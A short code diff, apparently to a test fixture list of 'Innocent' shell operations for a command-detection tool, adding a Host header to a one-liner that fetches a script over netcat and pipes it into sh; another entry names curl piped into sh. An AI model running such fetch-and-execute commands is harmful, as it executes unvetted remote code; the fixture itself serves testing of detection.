@@ -12,7 +12,7 @@ export const OPERATIONS: readonly Innocent[] = [
   ),
   repeated(
     "printf, netcat and a shell in a row",
-    "printf 'GET /echo.sh HTTP/1.0\\r\\n\\r\\n' | nc -q1 -w2 remote 8080 | sed '1,/^.$/d' | sh",
+    "printf 'GET /echo.sh HTTP/1.0\\r\\nHost: remote\\r\\n\\r\\n' | nc -q1 -w2 remote 8080 | sed '1,/^.$/d' | sh",
   ),
   repeated(
     "curl pipes into sh and that into curl",
